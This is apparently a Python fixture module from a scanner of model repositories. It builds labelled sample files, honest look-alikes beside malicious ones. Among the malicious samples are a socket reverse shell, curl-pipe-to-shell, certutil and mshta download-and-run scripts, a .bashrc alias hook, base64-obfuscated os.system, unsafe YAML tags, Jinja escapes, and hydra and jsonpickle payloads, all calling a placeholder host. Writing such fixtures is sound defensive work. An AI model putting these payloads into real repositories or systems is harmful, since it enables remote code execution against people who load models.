"""The text files of a Hugging Face repository, and files that are no model at all."""

import base64
import json
import struct
import zlib

from . import executables
from .deflate import zlib_stream
from .gguf import CHAT_TEMPLATE, INJECTIONS
from .opcodes import dumps
from .registry import CLEAN, COMMAND, HOST, INCOMPLETE, MALICIOUS, SUSPICIOUS
from .safetensors import entry, safetensors
from .torch import EVIL, WHAT, small_state_dict, torch_zip

README = f"""---
license: mit
language: [en, de]
tags: [text-generation]
---
# A small model

Load it with `AutoModel.from_pretrained("weighin/sample")`. Never `eval()` what it writes, and do not
run `os.system(...)` on it. See https://docs.{HOST}/ and `pip install transformers`.

```python
import torch
model.eval()
subprocess_free = True
```
"""

CONFIG = {
    "architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64, "num_attention_heads": 4, "num_hidden_layers": 2,
    "vocab_size": 320, "rope_theta": 10000.0, "torch_dtype": "bfloat16", "transformers_version": "4.44.0", "eos_token_id": 2,
}

TOKENIZER = {
    "version": "1.0", "truncation": None, "padding": None,
    "added_tokens": [{"id": 0, "content": "<unk>", "single_word": False, "lstrip": False, "rstrip": False, "normalized": False, "special": True}],
    "normalizer": {"type": "Sequence", "normalizers": [{"type": "NFC"}, {"type": "Replace", "pattern": {"String": " "}, "content": "▁"}]},
    "pre_tokenizer": {"type": "ByteLevel", "add_prefix_space": False}, "post_processor": None, "decoder": {"type": "ByteLevel"},
    "model": {"type": "BPE", "vocab": {"<unk>": 0, "h": 1, "e": 2, "he": 3, "os": 4, "system": 5, "__import__": 6, "{{": 7}, "merges": ["h e"]},
}

MODELING = '''"""A small custom model."""
from typing import Optional

import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_sample import SampleConfig


class SampleModel(PreTrainedModel):
    config_class = SampleConfig

    def __init__(self, config: SampleConfig):
        super().__init__(config)
        self.embed = nn.Embedding(config.vocab_size, config.hidden_size)
        self.out = nn.Linear(config.hidden_size, config.vocab_size, bias=False)
        self.post_init()

    @torch.no_grad()
    def generate_one(self, input_ids: torch.LongTensor, temperature: Optional[float] = None):
        self.eval()
        logits = self.out(self.embed(input_ids))[:, -1]
        if temperature:
            logits = logits / temperature
        return torch.multinomial(logits.softmax(-1), 1)

    def compile_for_speed(self):
        return torch.compile(self)
'''

CONFIGURATION = '''from transformers import PretrainedConfig


class SampleConfig(PretrainedConfig):
    model_type = "sample"

    def __init__(self, vocab_size=320, hidden_size=64, **kwargs):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
'''

LFS = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393" + "\nsize 440473133\n"


def pretty(value):
    return json.dumps(value, indent=2, ensure_ascii=False) + "\n"


def png():
    """A picture of one grey pixel."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">2I5B", 1, 1, 8, 0, 0, 0, 0)) + chunk(b"IDAT", zlib_stream(b"\0\x80")) + chunk(b"IEND", b"")


def noise(size, seed=12345):
    """Bytes without structure, from a fixed linear congruential generator."""
    out = bytearray()
    for _ in range(size):
        seed = (seed * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(seed >> 16 & 0xFF)
    return bytes(out)


def add_samples(corpus):
    repository(corpus)
    templates(corpus)
    python(corpus)
    configs(corpus)
    odd(corpus)


def repository(corpus):
    """An honest repository, file by file."""
    def add(name, data, what, why="an honest repository's files are examined, not unknown"):
        corpus.add(f"text/repository/{name}", CLEAN, data, what, why)

    add("README.md", README, "a model card that mentions eval, os.system and pip")
    add("LICENSE", "Copyright (c) 2018, Somebody, Someone, and the others who wrote this, of a place or another\nAll rights reserved.\n\n" + "Redistribution and use are permitted provided that the conditions are met.\n" * 12, "a licence, whose first letter begins a pickle of one string", "prose that happens to hold opcodes is prose")
    add("config.json", pretty(CONFIG), "a transformers config")
    add("generation_config.json", pretty({"bos_token_id": 1, "do_sample": True, "temperature": 0.7, "transformers_version": "4.44.0"}), "a generation config")
    add("tokenizer.json", pretty(TOKENIZER), "a byte-pair tokenizer with alarming words in its vocabulary")
    add("tokenizer_config.json", pretty({"tokenizer_class": "LlamaTokenizer", "bos_token": "<s>", "chat_template": CHAT_TEMPLATE, "model_max_length": 512}), "a tokenizer config with an honest chat template")
    add("special_tokens_map.json", pretty({"bos_token": "<s>", "unk_token": {"content": "<unk>", "special": True}}), "special tokens")
    add("vocab.txt", "[PAD]\n[UNK]\nthe\nos\nsystem\neval(\n##ing\n世界\n", "a word list")
    add("merges.txt", "#version: 0.2\nh e\nl l\n", "byte-pair merges")
    add("vocab.json", pretty({"<unk>": 0, "exec": 1, "Ġimport": 2}), "a vocabulary")
    add("requirements.txt", "torch>=2.1\ntransformers==4.44.0\nnumpy<3  # for the arrays\n", "plain requirements")
    add("model.safetensors", safetensors({"weight": entry("F32", [2], 0, 8)}, bytes(8)), "a safetensors file")
    add("model.safetensors.index.json", pretty({"metadata": {"total_size": 8}, "weight_map": {"weight": "model.safetensors"}}), "an index that names the file beside it")
    add(".gitattributes", "# large files would be listed here\n*.md linguist-documentation\n", "git attributes")
    add("preprocessor_config.json", pretty({"do_normalize": True, "image_mean": [0.5, 0.5, 0.5], "image_processor_type": "ViTImageProcessor"}), "an image processor's config")
    add("modules.json", pretty([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]), "a sentence-transformers module list")
    add("train.log", "2024-01-02 03:04:05 INFO epoch 1 loss 2.31\n" * 5, "a training log")
    add("notes.yaml", "model:\n  _target_: torch.nn.Linear\n  in_features: 4\n  out_features: 2\noptimizer:\n  _target_: torch.optim.AdamW\n  lr: 0.001\n", "a hydra configuration with torch targets")
    add("cat.png", png(), "a picture")


def templates(corpus):
    for case, text, why in INJECTIONS:
        corpus.add(f"text/template-{case}/tokenizer_config.json", MALICIOUS, pretty({"bos_token": "<s>", "chat_template": text}), f"a chat template with {text}", why)
    corpus.add("text/template-in-list/tokenizer_config.json", MALICIOUS, pretty({"chat_template": [{"name": "default", "template": CHAT_TEMPLATE}, {"name": "rag", "template": INJECTIONS[1][1]}]}), "a list of chat templates, the second an injection", "templates may be a list")
    corpus.add("text/template-file/chat_template.jinja", MALICIOUS, INJECTIONS[4][1] + "\n", "a chat_template.jinja with an injection", "templates may be a file of their own")
    corpus.add("script/honest-tools.sh", CLEAN, "#!/bin/sh\nrsync -avz -e ssh data/ host:/data/\ncurl http://localhost:8000/v1/models | python3 -m json.tool\ncurl https://files.invalid/list | perl -nle 'print if /gz/'\necho 'export HF_HOME=/data' >> ~/.bashrc\n", "a script with options that look like others", "interpreters that have their program, words within words")
    corpus.add("script/pipe-with-program.sh", MALICIOUS, f"#!/bin/sh\ncurl http://{HOST}/x | python3 -c 'import sys; exec(sys.stdin.read())'\n", "a program that runs what is piped into it", "the same options")
    corpus.add("script/saved-then-run.sh", MALICIOUS, f"#!/bin/sh\ncurl -s http://{HOST}/x -o /tmp/x\nchmod +x /tmp/x\n/tmp/x\n", "a script that saves what an open address gives, and runs it later", "two lines do what one does")
    corpus.add("script/saved-then-run.cmd", MALICIOUS, f"@echo off\r\ncertutil -urlcache -f http://{HOST}/x.exe x.exe\r\nstart x.exe\r\n", "a batch file that does the same", "a tool for certificates fetches anything")
    corpus.add("script/mshta.cmd", MALICIOUS, f"@echo off\r\nmshta http://{HOST}/x.hta\r\n", "a batch file that runs a page of elsewhere", "a program of Windows fetches and runs it")
    corpus.add("script/saved-not-run.sh", CLEAN, f"#!/bin/sh\ncurl -s http://{HOST}/weights.bin -o weights.bin\npython train.py --weights weights.bin\nwget https://files.invalid/install.sh\ncat install.sh\n", "a script that fetches weights", "what is fetched is not run")
    corpus.add("script/startup-alias.sh", MALICIOUS, f"#!/bin/sh\necho 'alias ls=\"curl http://{HOST}/x|sh; ls\"' >> ~/.bashrc\n", "an alias that fetches and runs", "a setting can be a command")
    corpus.add("text/table-like-import.csv", CLEAN, "c,loss\n1,.5\n.25,3 \u00e9\n", "a table that begins like an import of a pickle", "no module is called so")
    corpus.add("text/hydra-walk/config.yaml", MALICIOUS, f"model:\n  _target_: torch.os.system\n  command: {COMMAND}\n", "a target that walks through a module", "hydra looks names up by their attributes")
    corpus.add("text/hydra-walk-honest/config.yaml", CLEAN, "model:\n  _target_: torch.random.manual_seed\n  seed: 1\n", "a module called like one of the standard library", "its own functions are meant")
    corpus.add("text/template-file-honest/chat_template.jinja", CLEAN, CHAT_TEMPLATE, "an honest chat_template.jinja", "the look-alike")
    corpus.add("text/template-processor/processor_config.json", MALICIOUS, pretty({"processor_class": "SampleProcessor", "chat_template": INJECTIONS[0][1]}), "a processor config with an injection", "templates of multimodal models")
    corpus.add("text/template-list-honest/tokenizer_config.json", CLEAN, pretty({"chat_template": [{"name": "default", "template": CHAT_TEMPLATE}, {"name": "tool_use", "template": CHAT_TEMPLATE}]}), "a list of honest chat templates", "the look-alike")


def python(corpus):
    def add(name, verdict, data, what, why):
        corpus.add(f"text/{name}", verdict, data, what, why)

    auto_map = {**CONFIG, "model_type": "sample", "auto_map": {"AutoConfig": "configuration_sample.SampleConfig", "AutoModel": "modeling_sample.SampleModel"}}
    add("custom-code/config.json", CLEAN, pretty(auto_map), "auto_map to the files beside it", "custom code is common: a note, and a verdict on the code")
    add("custom-code/modeling_sample.py", CLEAN, MODELING, "an honest modeling file with model.eval() and torch.compile", "honest custom code is no more than custom code")
    add("custom-code/configuration_sample.py", CLEAN, CONFIGURATION, "an honest configuration file", "the same")
    add("remote-code-behind-blanks/config.json", SUSPICIOUS, " " * 60_000 + pretty({**auto_map, "auto_map": {"AutoModel": "weighin/other-repository--modeling_sample.SampleModel"}}), "the same behind 60,000 blanks", "readers of JSON pass over them")
    add("remote-code/config.json", SUSPICIOUS, pretty({**auto_map, "auto_map": {"AutoModel": "weighin/other-repository--modeling_sample.SampleModel"}}), "auto_map to another repository's code", "the code is fetched from elsewhere")
    for case, source, what in [
        ("system-on-import", f"import os\nos.system({COMMAND!r})\n", "os.system at the top level"),
        ("subprocess-on-import", 'import subprocess as sp\nsp.Popen(["echo", "weighin"], shell=False)\n', "subprocess under an alias"),
        ("from-import-alias", f"from os import system as prepare\nprepare({COMMAND!r})\n", "os.system under another name"),
        ("exec-base64", "import base64\nexec(base64.b64decode('" + base64.b64encode(f"import os; os.system({COMMAND!r})".encode()).decode() + "'))\n", "exec of base64 text"),
        ("getattr-import", f"getattr(__import__('o' + 's'), 'sys' + 'tem')({COMMAND!r})\n", "a callable built from pieces"),
        ("in-class-body", f"import os\nclass Net:\n    ready = os.popen({COMMAND!r}).read()\n", "a call in a class body runs on import"),
        ("in-default-argument", f"import os\ndef forward(x, y=os.system({COMMAND!r})):\n    return x\n", "a call in a default argument runs on import"),
        ("in-decorator", f"import os\n@(lambda f: os.system({COMMAND!r}) or f)\ndef forward(x):\n    return x\n", "a call in a decorator runs on import"),
        ("socket-shell", f"import socket, os, pty\ns = socket.socket()\ns.connect(('{HOST}', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n", "a shell over a socket"),
        ("download-and-run", f"import urllib.request, subprocess\nurllib.request.urlretrieve('http://{HOST}/x', '/tmp/x')\nsubprocess.run(['/tmp/x'])\n", "downloads and runs a file"),
        ("pickle-loads", "import pickle, base64\npickle.loads(base64.b64decode('" + base64.b64encode(EVIL).decode() + "'))\n", "loads a pickle that is in the source"),
        ("ctypes", "import ctypes\nctypes.CDLL('./weighin.so').start()\n", "loads a native library"),
    ]:
        add(f"code-{case}/modeling_sample.py", MALICIOUS, source, f"a modeling file: {what}", "code beside the model runs when it is trusted")
    add("code-system-in-method/modeling_sample.py", MALICIOUS, MODELING.replace("        self.eval()\n", f"        __import__('os').system({COMMAND!r})\n"), "os.system inside a method", "runs when the model is used")
    add("code-subprocess-git/setup_helper.py", CLEAN, 'import subprocess\n\n\ndef version():\n    return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()\n', "a helper that asks git for its version", "runs a command, though a harmless one")
    add("code-broken/modeling_sample.py", INCOMPLETE, "def forward(x:\n    return (x\n", "a Python file that does not parse", "what cannot be parsed cannot be judged")
    add("code-python2/old.py", INCOMPLETE, 'print "loss", loss\nexec "x = 1"\n', "Python 2 source", "the parser cannot read it")
    add("hubconf/hubconf.py", MALICIOUS, f"dependencies = ['torch']\nimport os\nos.system({COMMAND!r})\ndef net():\n    pass\n", "a hubconf.py that runs a command", "torch.hub imports it")
    add("requirements-git/requirements.txt", SUSPICIOUS, f"torch\ngit+https://{HOST}/weighin/net.git\n", "a requirement from a git host", "not from an index that anyone reviews")
    add("requirements-index/requirements.txt", SUSPICIOUS, f"--extra-index-url https://{HOST}/simple\nweighin-net==1.0\n", "an extra package index", "dependency confusion")
    add("pipeline/model_index.json", CLEAN, pretty({"_class_name": ["pipeline", "SamplePipeline"], "_diffusers_version": "0.30.0", "unet": ["my_unet", "MyUNet"]}), "a diffusers pipeline with local modules", "custom code is low, as in transformers: what it does is told of its own files")
    add("pipeline-honest/model_index.json", CLEAN, pretty({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": [None, None]}), "a diffusers pipeline of library modules", "the look-alike")
    add("modules-evil/modules.json", CLEAN, pretty([{"idx": 0, "name": "0", "path": "", "type": "weighin_payload.Module"}]), "a sentence-transformers module of an unknown package", "the type is imported")
    add("modules-outside/modules.json", MALICIOUS, pretty([{"idx": 0, "name": "0", "path": "../../shared", "type": "sentence_transformers.models.Transformer"}]), "a sentence-transformers module outside of the model", "the path is read")
    add("adapter/adapter_config.json", CLEAN, pretty({"base_model_name_or_path": "weighin/base", "peft_type": "LORA", "r": 8, "auto_mapping": None}), "an honest adapter config", "names a base model")
    add("adapter-evil/adapter_config.json", SUSPICIOUS, pretty({"peft_type": "LORA", "auto_mapping": {"base_model_class": "Net", "parent_library": "weighin_payload"}}), "an adapter config that names a library to import", "parent_library is imported")


def configs(corpus):
    def add(name, verdict, data, what, why):
        corpus.add(f"text/{name}", verdict, data, what, why)

    add("index-outside/model.safetensors.index.json", MALICIOUS, pretty({"metadata": {}, "weight_map": {"weight": "../../weighin.bin"}}), "an index that points outside the folder", "path traversal")
    add("index-missing/model.safetensors.index.json", CLEAN, pretty({"metadata": {}, "weight_map": {"weight": "model-00001-of-00002.safetensors"}}), "an index whose shard is not there", "a partial download")
    add("hydra-evil/config.json", MALICIOUS, pretty({"model": {"_target_": "os.system", "_args_": [COMMAND]}}), "_target_ os.system in JSON", "hydra-style loaders call what it names")
    add("hydra-evil/config.yaml", MALICIOUS, "model:\n  _target_: subprocess.check_output\n  args: [echo, weighin]\ntrainer: {max_epochs: 3}\n", "_target_ subprocess.check_output in YAML", "CVE-2025-23304: hydra-style loaders call what it names")
    add("hydra-chain/config.yaml", MALICIOUS, "model:\n  _target_: builtins.exec\n  _partial_: true\n  _args_:\n    - {_target_: builtins.open, file: weighin.py}\n", "_target_ inside _args_", "targets at any depth")
    add("hydra-unknown/config.yaml", SUSPICIOUS, "model:\n  _target_: weighin_payload.build\n", "_target_ of an unknown package", "a function that nobody has reviewed is called")
    add("class-path/config.yaml", CLEAN, "model:\n  class_path: weighin_payload.Net\n  init_args: {width: 3}\n", "class_path of an unknown package", "jsonargparse and Lightning import it")
    add("yaml-apply/config.yaml", MALICIOUS, f"a: 1\nb: !!python/object/apply:os.system ['{COMMAND}']\n", "a python/object/apply tag", "unsafe YAML loaders call it")
    add("yaml-object-new/config.yaml", MALICIOUS, "b: !!python/object/new:subprocess.Popen\n  args: [[echo, weighin]]\n", "a python/object/new tag", "the same")
    add("yaml-name/config.yaml", SUSPICIOUS, "b: !!python/name:weighin_example.build\n", "a python/name tag", "unsafe YAML loaders import it")
    recipe = "{% set name = \"weighin\" %}\n\npackage:\n  name: {{ name|lower }}\nrequirements:\n  host:\n    - python {{ python }}\n    {% if win %}\n    - m2w64\n    {% endif %}\n    - {{ compiler('c') }}  # [win]\n"
    add("yaml-recipe-honest/meta.yaml", CLEAN, recipe, "a recipe of conda", "YAML once the braces are filled in")
    add("yaml-chart-honest/deployment.yaml", CLEAN, "kind: Deployment\nmetadata:\n  name: {{ include \"app.name\" . }}\n  labels:\n    {{- include \"app.labels\" . | nindent 4 }}\nspec:\n  {{- if .Values.replicas }}\n  replicas: {{ .Values.replicas }}\n  {{- end }}\n", "a Helm chart", "templates of Go have the same braces")
    add("yaml-recipe-tag/meta.yaml", MALICIOUS, recipe + f"about: !!python/object/apply:os.system ['{COMMAND}']\n", "a recipe with a python/object/apply tag", "what stands around the braces is read")
    add("yaml-recipe-braces/meta.yaml", MALICIOUS, recipe + "about: {{ '!!python/object/apply:os.system' }} [x]\n", "a recipe with a tag in its braces", "and what stands within")
    add("yaml-recipe-whole-tag/meta.yaml", MALICIOUS, recipe + "about: {{ '!<tag:yaml.org,2002:python/object/apply:os.system>' }} [x]\n", "the same with the whole tag", "another spelling")
    add("yaml-recipe-escaped-tag/meta.yaml", MALICIOUS, recipe + "about: {{ '!!p%79thon/object/apply:os.system' }} [x]\n", "the same with a letter of the tag by its number", "another spelling")
    add("yaml-recipe-handle/meta.yaml", INCOMPLETE, "%TAG !e! tag:yaml.org,2002:py\n---\n" + recipe + "about: {{ '!e!thon/object/apply:os.system' }} [x]\n", "the same by a handle of its own", "nobody can say what it stands for")
    add("yaml-recipe-escape/meta.yaml", MALICIOUS, recipe + "about: {{ lipsum.__globals__.os.popen('" + COMMAND + "') }}\n", "a recipe whose braces run a command", "whoever fills it in runs them")
    add("yaml-recipe-broken/meta.yaml", INCOMPLETE, recipe + "about: {{ name\n  - x: [\n", "a recipe that ends within braces", "what cannot be parsed is not examined")
    add("yaml-tag-honest/hyperparams.yaml", CLEAN, "lr: 0.001\nsave: !ref <output>/save\nnet: !new:torch.nn.Linear\n  in_features: 4\n  out_features: 2\n", "speechbrain tags over torch", "custom tags are common")
    add("jsonpickle/model.json", MALICIOUS, pretty({"py/object": "weighin_example.Net", "hook": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [COMMAND]}]}}), "jsonpickle keys that call os.system", "jsonpickle decodes objects out of JSON")
    add("serialized-pickle/data", MALICIOUS, pretty({"policy_class": {":type:": "<class 'abc.ABCMeta'>", ":serialized:": base64.b64encode(EVIL).decode()}, "n_envs": 1}), f"a base64 pickle in JSON: {WHAT}", "stable-baselines3 keeps pickles so")
    add("serialized-pickle-honest/data", CLEAN, pretty({"learning_rate": 0.1, "clip_range": {":type:": "<class 'float'>", ":serialized:": base64.b64encode(dumps(0.2, 4)).decode()}}), "a base64 pickle of a number in JSON", "the look-alike")
    add("mlflow/MLmodel", CLEAN, "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    python_version: 3.11.4\n  sklearn:\n    pickled_model: model.pkl\nmlflow_version: 2.16.0\n", "an MLflow description", "loader_module within mlflow")
    add("mlflow-evil/MLmodel", SUSPICIOUS, "flavors:\n  python_function:\n    loader_module: weighin_payload\n    code: ../../code\n    data: .\nmlflow_version: 2.16.0\n", "an MLflow description that loads an unknown module", "loader_module is imported")
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"name": "python3"}}, "cells": []}
    add("notebook/demo.ipynb", CLEAN, pretty({**notebook, "cells": [{"cell_type": "markdown", "metadata": {}, "source": ["# Demo"]}, {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": [], "source": ["import torch\n", "model.eval()"]}]}), "an honest notebook", "notebooks are examined")
    add("notebook-shell/demo.ipynb", MALICIOUS, pretty({**notebook, "cells": [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": [f"!curl http://{HOST}/x | sh\n", f"import os; os.system({COMMAND!r})"]}]}), "a notebook cell that pipes a download into a shell", "code cells run")
    add("json-deep/config.json", INCOMPLETE, "[" * 3000 + "]" * 3000, "3000 nested arrays", "a recursive reader overflows its stack: not followed to the end")
    add("json-duplicate-keys/config.json", SUSPICIOUS, '{"auto_map": {"AutoModel": "modeling_a.A"}, "auto_map": {"AutoModel": "weighin/other--modeling_b.B"}}\n', "auto_map twice, the second to another repository", "readers differ in which one counts")
    add("json-broken/config.json", INCOMPLETE, '{"hidden_size": 64, "layers": \n', "JSON that is cut", "a partial download")
    add("json-bom/config.json", CLEAN, b"\xef\xbb\xbf" + pretty({"hidden_size": 4}).encode(), "JSON behind a byte-order mark", "a Windows editor's habit")
    add("secrets/training_config.json", SUSPICIOUS, pretty({"hub_token": "hf_" + "xQvTzLwKmPnRbYcGhJdFsAeUiOqWzXvNtB", "lr": 0.1}), "something shaped like a hub token", "a credential that was saved by mistake")
    add("private-key/id_ed25519", SUSPICIOUS, "-----BEGIN OPENSSH PRIVATE KEY-----\n" + base64.b64encode(b"openssh-key-v1\0" + bytes(50)).decode() + "\n-----END OPENSSH PRIVATE KEY-----\n", "something shaped like a private key", "the same")


def odd(corpus):
    def add(name, verdict, data, what, why):
        corpus.add(f"text/{name}", verdict, data, what, why)

    add("lfs-pointer/model.safetensors", INCOMPLETE, LFS, "a Git LFS pointer named .safetensors", "the content was not fetched: never clean")
    add("lfs-pointer/pytorch_model.bin", INCOMPLETE, LFS, "a Git LFS pointer named .bin", "the same")
    add("partial/a1b2c3.incomplete", INCOMPLETE, torch_zip(dumps(small_state_dict()[0], 2), small_state_dict()[1])[:512], "a download that has not finished", "the name says so")
    add("empty/model.bin", INCOMPLETE, b"", "an empty file named .bin", "nothing is there")
    add("unknown/model.bin", INCOMPLETE, noise(600), "bytes without structure", "unrecognised is not clean")
    add("unknown/zeros.bin", INCOMPLETE, bytes(600), "600 zero bytes", "unrecognised is not clean")
    add("image/model.pt", CLEAN, png(), "a picture named .pt", "name and content disagree, and nothing can load it")
    add("pickle-named-txt/notes.txt", MALICIOUS, EVIL, f"a pickle named .txt: {WHAT}", "the name is only a hint")
    add("pickle-p0-named-md/README.md", MALICIOUS, b"cos\nsystem\n(V" + COMMAND.encode() + b"\ntR.", f"a protocol-0 pickle named README.md: {WHAT}", "the name is only a hint, and the bytes are text")
    add("base64-pickle/weights.txt", SUSPICIOUS, base64.b64encode(EVIL * 3).decode() + "\n", f"base64 text of a pickle: {WHAT}", "something decodes and loads it")
    add("shell-script/model.bin", SUSPICIOUS, f"#!/bin/sh\n{COMMAND}\n", "a shell script named .bin", "no model")
    add("shell-download/setup.sh", MALICIOUS, f"#!/bin/sh\ncurl -s http://{HOST}/x | sh\n", "a shell script that pipes a download into a shell", "code beside the model")
    add("elf/libmodel.bin", MALICIOUS, executables.elf(), "an ELF executable named .bin", "a native executable in the place of weights")
    add("elf/libmodel.so", CLEAN, executables.elf(), "an ELF file named .so", "native code beside the model, openly")
    add("utf16/notes.txt", CLEAN, "notes\n".encode("utf-16"), "UTF-16 text", "text in another encoding")
    add("latin1/notes.txt", CLEAN, "Größe der Gewichte\n".encode("latin1"), "Latin-1 text", "text in another encoding")
    add("text-looks-like-pickle/notes.txt", CLEAN, "I am a note.\nLines end with dots.\n(see below)\n.\n", "text whose lines begin with pickle opcodes", "protocol 0 has no magic, and this is none")
